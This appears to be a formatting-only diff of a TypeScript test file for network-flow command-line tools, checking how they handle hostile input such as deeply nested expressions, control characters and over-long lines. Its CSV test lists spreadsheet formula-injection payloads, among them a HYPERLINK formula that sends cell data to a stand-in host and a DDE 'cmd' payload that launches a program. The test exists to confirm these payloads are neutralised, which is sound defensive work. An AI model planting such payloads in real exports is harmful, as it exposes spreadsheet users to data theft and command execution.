@@ -11,7 +11,8 @@ import { tempDir } from '../helpers/tmp.js';
 import { runBin } from '../helpers/spawn.js';
 
 const dir = tempDir('hostile-');
-const FLOW = '{"type":"SFLOW_5","time_received_ns":1700000000000000000,"bytes":60,"packets":1,"src_addr":"10.5.1.2","dst_addr":"8.8.8.8","proto":"TCP"}';
+const FLOW =
+  '{"type":"SFLOW_5","time_received_ns":1700000000000000000,"bytes":60,"packets":1,"src_addr":"10.5.1.2","dst_addr":"8.8.8.8","proto":"TCP"}';
 const flowsFile = join(dir, 'flows.ndjson');
 writeFileSync(flowsFile, `${FLOW}\n${FLOW}\n`);
 
@@ -37,12 +38,17 @@ test('a filter nested 5,000 parentheses deep is a usage error at the column of t
   writeFileSync(conf, `aggregate[x]: src_host\naggregate_filter[x]: ${deep}\n`);
   const cfg = await runBin('flow-aggregate', ['-c', conf, flowsFile]);
   assert.equal(cfg.code, 78, cfg.stderr.slice(0, 300));
-  assert.match(cfg.stderr, /deep\.conf:2: aggregate_filter: expression nested more than 256 levels deep at column 257\n/);
+  assert.match(
+    cfg.stderr,
+    /deep\.conf:2: aggregate_filter: expression nested more than 256 levels deep at column 257\n/,
+  );
   // 256 levels, and a flat chain of 5,000 alternatives (an argument may hold 128 KiB), are fine
   const ok = await runBin('flow-aggregate', ['-a', 'none', '-f', `${'('.repeat(256)}tcp${')'.repeat(256)}`, flowsFile]);
   assert.equal(ok.code, 0, ok.stderr);
   assert.equal((JSON.parse(ok.stdout) as { flows: number }).flows, 2);
-  const chain = Array.from({ length: 5000 }, (_, i) => `host 192.168.${i >> 8}.${i & 255}`).concat('host 8.8.8.8').join(' or ');
+  const chain = Array.from({ length: 5000 }, (_, i) => `host 192.168.${i >> 8}.${i & 255}`)
+    .concat('host 8.8.8.8')
+    .join(' or ');
   const long = await runBin('flow-aggregate', ['-a', 'none', '-f', chain, flowsFile]);
   assert.equal(long.code, 0, long.stderr);
   assert.equal((JSON.parse(long.stdout) as { flows: number }).flows, 2);
@@ -52,10 +58,16 @@ test('a field value nested 100,000 levels deep is a rejected line (65), in every
   const deep = join(dir, 'deep.ndjson');
   writeFileSync(deep, `${FLOW}\n{"type":"IPFIX","bytes":${'['.repeat(100_000)}${']'.repeat(100_000)}}\n`);
   const message = `${deep}:2: field "bytes": expected a non-negative integer (got ${'['.repeat(40)}…)`;
-  for (const [cmd, args] of [['flow-aggregate', ['-a', 'none']], ['flow-report', []]] as const) {
+  for (const [cmd, args] of [
+    ['flow-aggregate', ['-a', 'none']],
+    ['flow-report', []],
+  ] as const) {
     const r = await runBin(cmd, [...args, deep]);
     assert.equal(r.code, 65, `${cmd}: ${r.stderr}`);
-    assert.deepEqual(r.stderr.trimEnd().split('\n'), [`${cmd}: ${message}`, `${cmd}: 1 of 2 lines rejected (first: ${deep}:2)`]);
+    assert.deepEqual(r.stderr.trimEnd().split('\n'), [
+      `${cmd}: ${message}`,
+      `${cmd}: 1 of 2 lines rejected (first: ${deep}:2)`,
+    ]);
   }
   const db = join(dir, 'deep-store.json');
   const ml = (...a: string[]): ReturnType<typeof runBin> => runBin('meter-label', ['--db', db, ...a]);
@@ -67,7 +79,10 @@ test('a field value nested 100,000 levels deep is a rejected line (65), in every
   writeFileSync(doc, `{"metering_label":{"name":${'['.repeat(100_000)}${']'.repeat(100_000)}}}`);
   const imp = await ml('import', doc);
   assert.equal(imp.code, 65, imp.stderr);
-  assert.equal(imp.stderr, `meter-label: ${doc}: label #1: Invalid input for name. Reason: ${'['.repeat(40)}… is not a valid string.\n`);
+  assert.equal(
+    imp.stderr,
+    `meter-label: ${doc}: label #1: Invalid input for name. Reason: ${'['.repeat(40)}… is not a valid string.\n`,
+  );
 });
 
 test('control characters in label names, file names and arguments are shown as escapes, never sent raw', async () => {
@@ -92,7 +107,10 @@ test('control characters in label names, file names and arguments are shown as e
   assert.equal(r.stderr, `meter-label: Unable to find metering_label with name or id '${shown}x'\n`);
   r = await ml(`\x1b[31m${name}`);
   assert.equal(r.code, 64);
-  assert.equal(r.stderr, `meter-label: Unknown argument: \\x1b[31m${shown}\nTry 'meter-label --help' for more information.\n`);
+  assert.equal(
+    r.stderr,
+    `meter-label: Unknown argument: \\x1b[31m${shown}\nTry 'meter-label --help' for more information.\n`,
+  );
   r = await ml('delete', name);
   assert.equal(r.code, 0, r.stderr);
   assert.equal(r.stdout, `Deleted metering_label(s): ${shown}\n`);
@@ -110,8 +128,18 @@ test('control characters in label names, file names and arguments are shown as e
 test('meter-label -f csv: text that a spreadsheet would run gets a leading quote; numbers, booleans and prefixes stay', async () => {
   const db = join(dir, 'csv.json');
   const ml = (...a: string[]): ReturnType<typeof runBin> => runBin('meter-label', ['--db', db, ...a]);
-  const texts = ['=HYPERLINK("http://x.example/?"&A1,"bill")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\tx', '\rx', 'plain', "'=quoted"];
-  for (const [i, t] of texts.entries()) assert.equal((await ml('create', `l${i}`, `--description=${t}`, ...(i === 0 ? ['--shared'] : []))).code, 0);
+  const texts = [
+    '=HYPERLINK("http://x.example/?"&A1,"bill")',
+    "+1+cmd|' /C calc'!A0",
+    '-2+3',
+    '@SUM(A1:A9)',
+    '\tx',
+    '\rx',
+    'plain',
+    "'=quoted",
+  ];
+  for (const [i, t] of texts.entries())
+    assert.equal((await ml('create', `l${i}`, `--description=${t}`, ...(i === 0 ? ['--shared'] : []))).code, 0);
   let r = await ml('list', '-f', 'csv', '-c', 'name', '-c', 'description', '-c', 'shared');
   assert.equal(r.code, 0, r.stderr);
   assert.equal(
@@ -138,13 +166,21 @@ test('meter-label -f csv: text that a spreadsheet would run gets a leading quote
   assert.equal((await ml('rule-create', 'l6', '--remote-ip-prefix', '2001:db8::/32', '--egress')).code, 0);
   assert.equal((await ml('rule-create', 'l6', '--source-ip-prefix', '10.0.0.0/8')).code, 0);
   r = await ml('rule-list', '-f', 'csv', '-c', 'remote_ip_prefix', '-c', 'source_ip_prefix', '-c', 'excluded');
-  assert.equal(r.stdout, '"excluded","remote_ip_prefix","source_ip_prefix"\n' + 'False,"2001:db8::/32","None"\n' + 'False,"None","10.0.0.0/8"\n');
+  assert.equal(
+    r.stdout,
+    '"excluded","remote_ip_prefix","source_ip_prefix"\n' +
+      'False,"2001:db8::/32","None"\n' +
+      'False,"None","10.0.0.0/8"\n',
+  );
 });
 
 test('an over-long line is counted among the lines read: "1 of 3 lines rejected", not "1 of 0"', async () => {
   const long = join(dir, 'long.ndjson');
   writeFileSync(long, `${FLOW}\n${FLOW}\n{"pad":"${'x'.repeat((1 << 20) + 10)}"}\n${FLOW}\n`);
-  for (const [cmd, args] of [['flow-aggregate', ['-a', 'none']], ['flow-report', ['-a', 'none', '--format', 'ndjson']]] as const) {
+  for (const [cmd, args] of [
+    ['flow-aggregate', ['-a', 'none']],
+    ['flow-report', ['-a', 'none', '--format', 'ndjson']],
+  ] as const) {
     const r = await runBin(cmd, [...args, long]);
     assert.equal(r.code, 65, `${cmd}: ${r.stderr}`);
     assert.deepEqual(r.stderr.trimEnd().split('\n'), [
